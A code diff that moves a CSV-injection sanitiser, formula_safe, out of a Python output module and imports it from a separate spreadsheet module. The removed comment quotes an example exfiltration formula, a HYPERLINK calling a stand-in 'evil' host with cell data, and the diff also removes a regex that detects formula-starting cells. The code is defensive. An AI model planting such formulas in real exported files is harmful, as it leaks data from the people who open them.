@@ -8,13 +8,13 @@ from __future__ import annotations
 import csv
 import json
 import os
-import re
 import sys
 from pathlib import Path
 from typing import IO, Sequence
 
 from linktriage._exceptions import InputError
 from linktriage._records import OUTPUT_COLUMNS, SCHEMA_VERSION
+from linktriage._spreadsheet import formula_safe
 
 FORMATS = {".csv": "csv", ".jsonl": "jsonl", ".ndjson": "jsonl", ".parquet": "parquet"}
 
@@ -30,23 +30,6 @@ def _format_for(path: str | os.PathLike | None, fmt: str | None) -> str:
     if suffix not in FORMATS:
         raise InputError(f"cannot tell the output format of {str(path)!r}: use a .csv, .jsonl or .parquet name, or --format")
     return FORMATS[suffix]
-
-
-# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (OWASP "CSV injection"), even
-# after leading spaces; anchors, page titles and export columns come from pages anyone can write, so
-# `=HYPERLINK("http://evil/?"&A2, "open")` in an anchor would run on the SEO team's machine.
-_FORMULA_START = re.compile(r"[\s\u00a0]*[=+\-@\t\r]")
-_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
-
-
-def formula_safe(value: object) -> object:
-    """``value`` for a CSV cell: text a spreadsheet would run as a formula gets a leading ', as OWASP advises.
-
-    Numbers written as text ("-3") are left alone: no spreadsheet runs them.
-    """
-    if isinstance(value, str) and _FORMULA_START.match(value) and not _PLAIN_NUMBER.fullmatch(value.strip()):
-        return "'" + value
-    return value
 
 
 def _cell(value: object, escape_formulas: bool = False) -> object:
